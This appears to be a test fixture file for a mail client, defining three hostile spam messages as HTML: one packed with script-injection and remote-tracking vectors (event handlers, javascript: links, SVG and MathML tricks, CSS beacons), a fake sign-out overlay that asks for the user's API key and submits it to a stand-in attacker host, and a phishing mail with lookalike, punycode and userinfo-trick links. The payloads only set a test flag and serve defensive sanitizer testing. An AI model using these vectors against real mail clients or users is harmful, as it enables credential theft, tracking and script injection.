import { sender } from './people.ts'
import type { ThreadDraft } from './thread-draft.ts'

/**
 * Spam that attacks the reader of mail. Nothing here works in a client that does its duty; in one that does not, the
 * scripts set `window.__linnetCompromised`, which a test can look for, and every remote address begins with
 * `https://track.pixelharvest.example/`, so that a test can see that none was asked for.
 */
const trackingHtml = `<!DOCTYPE html>
<html><head><meta charset="utf-8">
<meta http-equiv="refresh" content="0; url=https://track.pixelharvest.example/refresh?who=support%40larkspur.example">
<base href="https://track.pixelharvest.example/base/">
<link rel="stylesheet" href="https://track.pixelharvest.example/style.css?u=8842">
<link rel="prefetch" href="https://track.pixelharvest.example/prefetch?u=8842">
<style>
@import url("https://track.pixelharvest.example/import.css?u=8842");
@font-face { font-family: Seen; src: url("https://track.pixelharvest.example/seen.woff2?u=8842"); }
body { background: #fff url("https://track.pixelharvest.example/background.png?u=8842"); font-family: Seen, Arial, sans-serif; }
a[href*="rota"] { background-image: url(https://track.pixelharvest.example/selector.gif); }
@media (prefers-color-scheme: dark) { h1 { background: url(https://track.pixelharvest.example/dark.gif) } }
.trap { position: fixed; inset: 0; z-index: 2147483647; background: #fff; }
</style>
<script>window.__linnetCompromised = true; try { parent.__linnetCompromised = true; top.__linnetCompromised = true } catch (e) {}</script>
<script src="https://track.pixelharvest.example/run.js"></script>
</head>
<body onload="window.__linnetCompromised = true" background="https://track.pixelharvest.example/body.gif">
<h1>Your rota software is overcharging you</h1>
<p>Dear Support, a café of your size saves <b>€312 a month</b>. We have made a comparison for you:
<a href="https://track.pixelharvest.example/click?u=8842&utm_source=spam&utm_campaign=rota&fbclid=IwAR0demo&mc_eid=5d1f&to=https%3A%2F%2Fexample.com%2Foffer">see your savings</a>,
or <a href="javascript:window.__linnetCompromised=true;void(0)">open the calculator</a>,
or <a href="data:text/html,<script>opener.__linnetCompromised=true</script>">the printable version</a>,
or <a href="vbscript:msgbox(1)">the classic one</a>.</p>
<img src="https://track.pixelharvest.example/open.gif?who=support%40larkspur.example&campaign=rota-17" width="1" height="1" alt="">
<img src="x" onerror="window.__linnetCompromised = true" alt="Savings by month">
<img srcset="https://track.pixelharvest.example/small.png 1x, https://track.pixelharvest.example/large.png 2x" alt="">
<picture><source srcset="https://track.pixelharvest.example/picture.webp"><img alt=""></picture>
<svg width="40" height="40" onload="window.__linnetCompromised = true"><script>window.__linnetCompromised = true</script><image href="https://track.pixelharvest.example/svg.png" width="1" height="1"/><use href="https://track.pixelharvest.example/sprite.svg#a"/><a xlink:href="javascript:window.__linnetCompromised=true"><text y="20">%</text></a></svg>
<math><mtext><table><mglyph><style><img src=x onerror="window.__linnetCompromised=true"></style></mglyph></table></mtext></math>
<video autoplay poster="https://track.pixelharvest.example/poster.jpg" src="https://track.pixelharvest.example/film.mp4" onloadstart="window.__linnetCompromised=true"></video>
<audio src="https://track.pixelharvest.example/sound.mp3" autoplay></audio>
<iframe src="https://track.pixelharvest.example/frame" srcdoc="<script>parent.__linnetCompromised=true</script>" width="1" height="1"></iframe>
<object data="https://track.pixelharvest.example/object.swf"></object><embed src="https://track.pixelharvest.example/embed.swf">
<form action="https://track.pixelharvest.example/form" method="post"><p>Confirm your address: <input name="mail" value="support@larkspur.example" autofocus onfocus="window.__linnetCompromised=true"><input type="password" name="password"><button formaction="javascript:window.__linnetCompromised=true">Confirm</button></p></form>
<details open ontoggle="window.__linnetCompromised=true"><summary>Terms</summary>None.</details>
<div style="background:url('https://track.pixelharvest.example/inline.gif');list-style-image:url(https://track.pixelharvest.example/list.gif);width:expression(window.__linnetCompromised=true)">Offer ends today.</div>
<noscript><p title="</noscript><img src=x onerror=window.__linnetCompromised=true>"></p></noscript>
</body></html>`

const overlayHtml = `<html><head><meta charset="utf-8"><style>
@import "https://track.pixelharvest.example/overlay.css";
.bar { position: fixed; top: 0; left: 0; right: 0; height: 44px; background: #B3263E; color: #fff; z-index: 99999; }
.sheet { position: fixed; top: 0; left: 0; width: 100vw; height: 100vh; background: rgba(31,27,24,.6); z-index: 99998; }
.box { position: absolute; top: 20%; left: 50%; width: 380px; margin-left: -190px; background: #FBFAF8; border: 1px solid #E7E2DC; border-radius: 6px; padding: 20px; font: 13px system-ui; }
body, html { pointer-events: none } .box * { pointer-events: auto }
</style></head><body>
<div class="sheet" role="dialog" aria-modal="true" aria-label="Linnet"><div class="bar">Linnet: you have been signed out</div><div class="box">
<h2 style="margin-top:0">Sign in again</h2><p>Your session with Linnet has ended. Enter your API key to go on reading your mail.</p>
<form action="https://track.pixelharvest.example/key" method="get" target="_top"><label>API key <input name="key" type="password" autocomplete="current-password" style="width:100%"></label><p><button onclick="window.__linnetCompromised=true">Continue</button></p></form>
<p><a href="https://track.pixelharvest.example/help" target="_parent">Help</a></p></div></div>
<a href="#" id="Threads" name="body" class="toolbar" accesskey="e" style="position:fixed;inset:0;opacity:0">.</a>
<p>If you cannot see this message, please allow remote content.</p>
</body></html>`

const phishingHtml = `<html><body style="font-family:Arial,sans-serif;color:#222">
<table width="560" cellpadding="0" cellspacing="0" align="center"><tr><td style="padding:20px;border-top:4px solid #0f6b5c">
<p style="font-size:18px;color:#0f6b5c"><b>Coinpurse</b></p>
<p>Dear Larkspur,</p>
<p>We could not verify your business, so your payout of <b>€4,812.60</b> is on hold. To release it, sign in within 24 hours:</p>
<p><a href="https://coinpurse.example.account-check.example.net/login?id=support@larkspur.example">https://www.coinpurse.example/login</a></p>
<p>Or look at the letter of our compliance team: <a href="http://203.0.113.77/letter.html">coinpurse.example/compliance</a>.
Our domain, to compare: <a href="https://xn--conpurse-6za.example/">coínpurse.example</a>. Questions? <a href="https://support.coinpurse.example@evil.example.org/">support.coinpurse.example</a></p>
<p style="font-size:11px;color:#777">Coinpurse Payments DAC. Do not answer this mail. <img src="https://track.pixelharvest.example/phish.gif" width="1" height="1" alt=""></p>
</td></tr></table></body></html>`

/** One that tracks and scripts, one that plays the app itself, one that phishes. */
export const hostileSpam: readonly ThreadDraft[] = [
  {
    subject: 'Your rota software is overcharging you (see your savings)',
    unread: true,
    letters: [
      {
        from: sender('Rota Savings Club', 'club@pixelharvest.example'),
        html: trackingHtml,
        text: 'Dear Support, a café of your size saves €312 a month. See your savings: https://track.pixelharvest.example/click?u=8842',
        authentication: 'fail',
        envelopeFrom: 'bounce-8842@pixelharvest.example',
      },
    ],
  },
  {
    subject: 'Linnet: you have been signed out',
    unread: true,
    letters: [
      {
        from: sender('Linnet Security', 'no-reply@linnet-session.example'),
        html: overlayHtml,
        authentication: 'fail',
        envelopeFrom: 'x@linnet-session.example',
      },
    ],
  },
  {
    subject: 'Your payout of €4,812.60 is on hold',
    unread: true,
    letters: [
      {
        from: sender('Coinpurse <payouts@coinpurse.example>', 'payouts@coinpurse-payouts.example'),
        replyTo: sender('Coinpurse', 'collect@evil.example.org'),
        html: phishingHtml,
        authentication: 'fail',
        envelopeFrom: 'www-data@account-check.example.net',
      },
    ],
  },
]
